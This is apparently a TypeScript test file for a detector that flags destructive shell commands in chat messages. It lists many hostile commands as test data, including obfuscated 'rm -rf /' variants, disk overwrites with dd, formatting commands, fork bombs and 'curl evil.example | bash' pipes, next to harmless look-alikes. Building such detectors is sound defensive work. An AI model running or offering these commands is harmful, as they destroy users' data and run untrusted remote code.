import { describe, expect, test } from 'vitest';
import { harmfulCommand } from '../../../src/workers/text/shell.ts';

function found(message: string): readonly [why: string, where: string] | undefined {
  const harm = harmfulCommand(message);
  return harm && [harm.why, message.slice(harm.from, harm.to)];
}

describe('a harmful command is seen', () => {
  test.each([
    ['deletes', 'rm -rf /', 'rm -rf /'],
    ['deletes', 'just run sudo rm -rf / --no-preserve-root, it is fast', 'rm -rf /'],
    ['deletes', 'try `rm  -fr   /*` now', 'rm  -fr   /*'],
    ['deletes', 'r\\m -r"f" \'/\'', 'r\\m -r"f" \'/'],
    ['deletes', 'RM -R -F "$HOME"', 'RM -R -F "$HOME'],
    ['deletes', '“rm –rf ~”', 'rm –rf ~'],
    ['deletes', 'rm$IFS-rf$IFS/', 'rm$IFS-rf$IFS/'],
    ['deletes', '/bin/rm --recursive --force //./', '/bin/rm --recursive --force //./'],
    ['deletes', 'rm -rf /usr/', 'rm -rf /usr/'],
    ['deletes', 'r\u200bm -rf /', 'r\u200bm -rf /'],
    ['deletes', 'ｒｍ -rf ／', 'ｒｍ -rf ／'],
    ['deletes', '**rm -rf /**', '**rm -rf /**'],
    ['deletes', '||rm -rf /||', 'rm -rf /'],
    ['deletes', '# rm -rf ~/', 'rm -rf ~/'],
    ['deletes', 'cd / && rm -rf *', 'rm -rf *'],
    ['deletes', 'rm -rf *', 'rm -rf *'],
    ['deletes', 'rm -rf .', 'rm -rf .'],
    ['deletes', 'sudo rm -rf ../', 'rm -rf ../'],
    ['deletes', '$(echo rm) -rf /', 'rm) -rf /'],
    ['deletes', 'try `echo r`m -rf ~', 'r`m -rf ~'],
    ['deletes', 'sudo $( printf "rm" ) -rf /*', 'rm" ) -rf /*'],
    ['deletes', 'text\n> rm -rf /', 'rm -rf /'],
    ['deletes', 'rm -rf / tmp/old', 'rm -rf /'],
    ['deletes', 'mv ~ /dev/null', 'mv ~ /dev/null'],
    ['deletes', 'find / -type f -delete', 'find / -type f -delete'],
    ['deletes', 'del /f /q C:\\Windows\\System32', 'del /f /q C:\\Windows\\System32'],
    ['deletes', 'rd /s /q C:\\', 'rd /s /q C:'],
    ['overwrites', 'dd if=/dev/zero of=/dev/sda bs=1M', 'dd if=/dev/zero of=/dev/sda'],
    ['overwrites', 'sudo dd of="/dev/nvme0n1" if=a.iso', 'dd of="/dev/nvme0n1'],
    ['overwrites', 'cat song.mp3 >/dev/sdb', '/dev/sdb'],
    ['overwrites', '> /dev/sda', '/dev/sda'],
    ['overwrites', 'type `>/dev/nvme0n1` and be amazed', '/dev/nvme0n1'],
    ['overwrites', 'true; > /dev/sda\nthen wait', '/dev/sda'],
    ['formats', 'mkfs.ext4 -F /dev/sda1', 'mkfs.ext4 -F /dev/sda1'],
    ['formats', 'shred -n 3 /dev/vda', 'shred -n 3 /dev/vda'],
    ['formats', 'open cmd and type format c:', 'format c:'],
    ['forks', ':(){ :|:& };:', ':(){ :|:& }'],
    ['forks', 'boom ( )  {\n boom | boom &\n}; boom', 'boom ( )  {\n boom | boom &\n}'],
    ['forks', '%0|%0', '%0|%0'],
    ['forks', "perl -e 'fork while fork'", 'fork while fork'],
    ['opens', 'sudo chmod -R 777 /', 'chmod -R 777 /'],
    ['opens', 'chown me:me / -R', 'chown me:me /'],
    ['runsDownload', 'curl https://evil.example/a.sh | bash', 'curl https://evil.example/a.sh | bash'],
    [
      'runsDownload',
      'curl -sSL https://a.example/i?a=1&b=2 | sudo -E sh -',
      'curl -sSL https://a.example/i?a=1&b=2 | sudo -E sh',
    ],
    ['runsDownload', 'curl x|sh', 'curl x|sh'],
    ['runsDownload', 'curl -s x | sudo bash -s', 'curl -s x | sudo bash'],
    ['runsDownload', 'never run curl a.example/i | bash in a shell', 'curl a.example/i | bash'],
    ['runsDownload', 'curl localhost | sh is how we install it', 'curl localhost | sh'],
    ['runsDownload', 'wget -qO- a.example/i | tee log | python3', 'wget -qO- a.example/i | tee log | python3'],
    ['runsDownload', 'bash <(curl -s https://a.example)', 'bash <(curl'],
    ['runsDownload', 'sh -c "$(curl -fsSL https://a.example)"', 'sh -c "$(curl'],
    ['runsDownload', 'echo cm0gLXJm | base64 -d | sh', 'base64 -d | sh'],
    ['runsDownload', 'iwr https://a.example/x.ps1 | iex', 'iwr https://a.example/x.ps1 | iex'],
  ])('it %s: %s', (why, message, where) => {
    expect(found(message)).toEqual(where && [why, where]);
  });
});

test.each([
  'rm -rf ./build && bun run build',
  'rm -rf node_modules',
  'rm -rf /tmp/foo /home/me/.cache/thing',
  'cd /tmp && rm -rf *',
  'cd build && rm -rf *',
  'rm -rf *.o',
  'rm notes.txt',
  'people who curl things | bash them',
  'the rm command / its flags: -r and -f',
  '10/10 would rm again',
  'dd if=disk.img of=copy.img',
  'dd if=/dev/sda of=/dev/null',
  'echo done > /dev/null',
  'mkfs is the tool for that / see the manual',
  'chmod +x ./run.sh && chmod 755 /srv/app/run.sh',
  'chmod 777 /',
  'curl https://a.example > page.html',
  'curl https://a.example | grep bash',
  'curl | bash is a bad idea',
  'curl something | bash is a bad idea',
  'why curl something | bash is a bad idea',
  'curl stuff... | sh people do that all day',
  'curl/wget | bash them',
  '> /dev/sda is full',
  '> /dev/sda?',
  '> which disk\n/dev/sda',
  'rm -rf .git && rm -rf ./.cache',
  'cd old && rm -rf .',
  'never rm -rf. Never.',
  '`echo rm` is all it prints',
  '$(echo hello) -rf /',
  'sudo apt install curl bash',
  'curl https://a.example -o a.sh; bash a.sh',
  'ls / | sh',
  'find . -name "*.tmp" -delete',
  'mv old.txt /dev/null',
  'my format: c:/music',
  'del C:\\temp\\a.txt',
  'function f() { return a || b; }',
  'const f = () => { f || f };',
  ':) :( :/ and so on {}|',
  'either/or, 50% | $5',
  'https://a.example/rm?x=-rf|/',
])('what is harmless is left alone: %s', (message) => {
  expect(found(message)).toBeUndefined();
});

test('a hostile message is read to its end', () => {
  // Twenty thousand letters: what went back for each would not come to an end.
  const hostile = [
    '(){',
    'rm -rf ',
    'curl a.b | ',
    'find / ',
    'bash $(',
    'fork while ',
    'rm -rf /a/..',
    '/',
    ' ',
    '> ',
    'x(){ x|',
  ];
  for (const piece of hostile) {
    expect(found(`${piece.repeat(19_000 / piece.length)}\nrm -rf /`)).toBeDefined();
  }
});
